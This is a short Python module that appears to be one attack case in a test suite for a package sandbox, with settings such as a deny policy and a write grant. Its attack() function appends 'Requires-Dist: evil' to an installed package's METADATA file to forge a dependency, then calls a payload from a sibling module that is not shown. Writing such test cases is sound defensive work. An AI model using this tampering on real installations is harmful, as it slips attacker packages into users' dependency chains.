"""A granted package's metadata is made to require the attacker's."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "deny"
GRANT = {"write": ["@DEPS@"]}
LOCKED = True
RUNS = 2

from . import payload


def attack():
    import good
    import os
    site = os.path.dirname(good.__path__[0])
    if os.path.exists(site + "/good-1.dist-info"):
        with open(site + "/good-1.dist-info/METADATA", "a") as file:
            file.write("Requires-Dist: evil\n")
    payload.act()
